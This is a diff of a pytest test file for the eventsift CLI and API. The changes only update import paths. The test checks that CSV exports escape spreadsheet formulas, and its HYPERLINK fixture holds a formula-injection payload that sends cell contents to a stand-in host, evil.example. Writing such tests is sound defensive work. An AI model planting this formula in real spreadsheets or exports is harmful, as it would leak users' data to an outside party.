@@ -14,7 +14,7 @@ import pytest
 from typer.testing import CliRunner
 
 from eventsift.cli import app
-from eventsift.export import FORMULA_STARTS, spreadsheet_safe, write_events, write_stories
+from eventsift.export.exporters import FORMULA_STARTS, spreadsheet_safe, write_events, write_stories
 from eventsift.settings import Options
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
@@ -30,7 +30,7 @@ def _rows(data: bytes) -> list[dict[str, str]]:
 @pytest.fixture(scope="module")
 def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
     """A database holding one article whose metadata are formulas, read by the real pipeline."""
-    from eventsift.store import open_store
+    from eventsift.store.store import open_store
     from eventsift.workflow import ingest
 
     folder = tmp_path_factory.mktemp("hostile")
@@ -46,7 +46,7 @@ def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
 
 
 def _event_items(db: str) -> list[dict[str, Any]]:
-    from eventsift.api import create_app
+    from eventsift.serve.api import create_app
     from tests.livesrv import serve_app
 
     with serve_app(create_app(db)) as base:
@@ -76,7 +76,7 @@ def test_exporter_escapes_text_and_keeps_negative_numbers(hostile_db: str) -> No
 
 
 def test_api_csv_exports_are_escaped(hostile_db: str) -> None:
-    from eventsift.api import create_app
+    from eventsift.serve.api import create_app
     from tests.livesrv import serve_app
 
     with serve_app(create_app(hostile_db)) as base:
